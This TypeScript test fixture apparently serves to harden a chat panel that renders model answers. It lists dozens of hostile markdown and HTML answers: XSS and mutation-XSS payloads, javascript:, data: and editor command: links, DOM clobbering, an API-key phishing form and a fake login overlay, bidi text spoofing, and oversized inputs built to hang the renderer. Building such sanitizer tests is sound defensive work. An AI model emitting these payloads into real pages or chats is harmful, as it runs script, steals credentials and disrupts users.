/**
 * Answers that a model could be made to give, each of which has broken some chat somewhere. What they try: to run script (`stolen` would
 * be set), to load something from outside, to send the reader away, to dress up as the panel, to hang it, or to tear its layout.
 */

/** Nothing may ever be loaded from here. */
export const OUTSIDE = "https://outside.invalid";

const steal = "window.stolen=1";
const many = (text: string, times: number): string => text.repeat(times);

export const HOSTILE_ANSWERS: Readonly<Record<string, string>> = {
  script: `Hello <script>${steal}</script> there\n\n<script>\n\n${steal}\n\n</script>\n\n<script src="${OUTSIDE}/a.js"></script>`,
  "image with handler": `<img src=x onerror="${steal}"> and <img src="${OUTSIDE}/p.png" onload=${steal}>`,
  "handlers everywhere": `<p onmouseover="${steal}" onfocus=${steal} tabindex=0 autofocus>x</p><body onload=${steal}><details open ontoggle=${steal}><summary>s</summary></details>`,
  "svg with script": `<svg><script>${steal}</script><animate onbegin="${steal}" attributeName=x dur=1s /><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${steal}</script></svg>#x"/></svg>`,
  "math and svg mixed": `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${steal}&gt;"></table></mtext></math>`,
  "mutation by form": `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${steal}></form>`,
  "mutation by noscript": `<noscript><p title="</noscript><img src=x onerror=${steal}>"></noscript>`,
  "mutation by textarea": `<textarea><p title="</textarea><img src=x onerror=${steal}>">`,
  "mutation by template": `<template><img src=x onerror=${steal}></template><svg></p><style><a id="</style><img src=1 onerror=${steal}>">`,
  "javascript links": `[a](javascript:${steal}) [b](JaVaScRiPt:${steal}) [c](java\tscript:${steal}) [d](&#106;avascript:${steal}) <javascript:${steal}> [e]( javascript:${steal})`,
  "javascript reference": `[click][x] and [x]\n\n[x]: javascript:${steal} "title"`,
  "command links": `[run](command:workbench.action.terminal.new) <command:workbench.action.quit> [v](vscode://outside/x) [w](vscode-insiders:x)`,
  "data links": `[a](data:text/html,<script>${steal}</script>) [b](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) ![c](data:image/svg+xml,<svg onload=${steal}>)`,
  "vbscript, file and blob links": `[a](vbscript:x) [b](blob:${OUTSIDE}/1) [c](file://server/share/x) [d](//outside.invalid/x) [e](\\\\outside.invalid\\x) [f](filesystem:x)`,
  "remote images": `![a](${OUTSIDE}/1.png) ![b](//outside.invalid/2.png) ![c][r]\n\n[r]: ${OUTSIDE}/3.png\n\n[![d](${OUTSIDE}/4.png)](${OUTSIDE})`,
  "relative image": "![a](x.png) ![b](/etc/passwd) ![c](../../../secret.png)",
  "images as html": `<img src="${OUTSIDE}/1"><picture><source srcset="${OUTSIDE}/2"></picture><video src="${OUTSIDE}/3" poster="${OUTSIDE}/4" autoplay></video><audio src="${OUTSIDE}/5" autoplay></audio>`,
  style: `<style>@import "${OUTSIDE}/a.css"; * { display: none; background: url(${OUTSIDE}/b) }</style><link rel=stylesheet href="${OUTSIDE}/c.css"><p style="position:fixed;inset:0;background:url(${OUTSIDE}/d)">over</p>`,
  "style that covers the panel": `<div style="position:fixed;inset:0;z-index:99999;background:red" class="latest row answer" id="root">Your session has expired. Log in again.</div>`,
  frames: `<iframe src="${OUTSIDE}"></iframe><iframe srcdoc="<script>parent.stolen=1</script>"></iframe><object data="${OUTSIDE}"></object><embed src="${OUTSIDE}">`,
  "refresh and base": `<meta http-equiv="refresh" content="0;url=${OUTSIDE}"><base href="${OUTSIDE}/">[here](x.html)`,
  forms: `<form action="${OUTSIDE}" method=post><input name=key placeholder="Your API key" autofocus><button formaction="javascript:${steal}">Send</button></form>`,
  clobbering: `<a id=document><a id=body name=cookie><form id=acquireVsCodeApi><input name=postMessage></form><img name=querySelector>`,
  "our own buttons": `<button data-code="apply" data-do="undo" type=button>Apply</button> <a data-href="command:x" href="#">x</a> <figure class="code"><pre>x</pre></figure> <article class="row prompt" aria-posinset=1>You</article>`,
  "closing tags": `</div></article></main></body></html><h1>outside</h1>\n\n</script></style></textarea></title>-->`,
  "turned text":
    "\u202egnp.exe\u202c and \u2066isolated\u2069 and `\u202e reversed` \n\n```js\nif (admin\u202e \u2066// check\u2069 \u2066) {\n}\n```\n\n[\u202emoc.knab//:sptth](https://outside.invalid)",
  "text never turned back": `${many("\u202e", 300)} left open\n\n${many("\u2067", 300)} and again`,
  "zero width":
    "p\u200ba\u200cs\u200ds\u2060word\ufeff [ex\u200bample](https://exam\u200bple.org)\n\n```\nco\u200bde\n```",
  "combining marks": `Z${many("\u0334\u0322\u0353\u030e", 500)} marks\n\n# H${many("\u033f", 400)}`,
  "one long line": `${many("word ", 200_000)}end`,
  "one long word": many("a", 1_000_000),
  "code of one long line": `\`\`\`js\n${many("let x = 1; ", 90_000)}\n\`\`\``,
  "fence that never ends": `Before\n\n\`\`\`html\n<script>${steal}</script>\n<img src=x onerror=${steal}>\n${many("more\n", 300)}`,
  "fence with a strange language": `\`\`\`"><script>${steal}</script>\ncode\n\`\`\`\n\n\`\`\`javascript onload=${steal}\ncode\n\`\`\`\n\n\`\`\`__proto__\ncode\n\`\`\`\n\n\`\`\`constructor\ncode\n\`\`\``,
  "quotes in quotes": `${many(">", 10_000)} deep\n\nafter`,
  "quotes in quotes, going on": `${many("> ", 300)}deep\nlazy\n${many("> ", 200)}again\nlazy\n`,
  "lists in lists": `${many("- ", 5_000)}x\n\n${Array.from({ length: 400 }, (_, depth) => `${many("  ", depth)}- item ${depth}`).join("\n")}`,
  "emphasis in emphasis": `${many("**_", 3_000)}deep${many("_**", 3_000)}\n\n${many("*a **b ", 2_000)}`,
  "open brackets": `${many("[", 20_000)} ${many("![", 8_000)}\n\n${many("[a](", 5_000)}\n\n${many("<", 20_000)}`,
  "backticks of every length": Array.from({ length: 400 }, (_, length) => `${many("`", length + 1)} x `).join(""),
  "a very large table": `| a | b | c |\n| --- | --- | --- |\n${many("| one | two | three |\n", 3_000)}`,
  "a very wide table": `|${many(" column |", 400)}\n|${many(" --- |", 400)}\n|${many(" value that is long |", 400)}`,
  "link definitions": `${Array.from({ length: 2_000 }, (_, number) => `[l${number}]: ${OUTSIDE}/${number}`).join("\n")}\n\n[l1] [l1999] [__proto__] [constructor]\n\n[__proto__]: javascript:${steal}\n[l1]: javascript:${steal}`,
  autolinks: `${OUTSIDE}/?q=<script> www.outside.invalid user@outside.invalid <${OUTSIDE}/"onmouseover=${steal}> https://a.b/c)](javascript:${steal}) ftp://outside.invalid`,
  footnotes: `Text[^1] and [^evil].\n\n[^1]: <img src=x onerror=${steal}>\n[^evil]: javascript:${steal}`,
  entities: `&lt;script&gt;${steal}&lt;/script&gt; &#60;img src=x onerror=${steal}&#62; &amp;lt;b&amp;gt; &NotAnEntity; &#0; &#x110000;`,
  "html in every corner": `# <img src=x onerror=${steal}>\n\n- <svg onload=${steal}>\n\n> <iframe src="${OUTSIDE}">\n\n| <script>${steal}</script> | <style>*{}</style> |\n| --- | --- |\n| <br> | <br/ onclick=${steal}> |\n\n**<b onclick=${steal}>** [<img src=x onerror=${steal}>](x "<script>") ![<script>](y '"><img src=x onerror=${steal}>')`,
  "comments and sections": `<!-- <img src=x onerror=${steal}> -->\n\n<![CDATA[<script>${steal}</script>]]>\n\n<?php ${steal} ?>\n\n<!DOCTYPE html [<!ENTITY x SYSTEM "${OUTSIDE}">]>`,
};
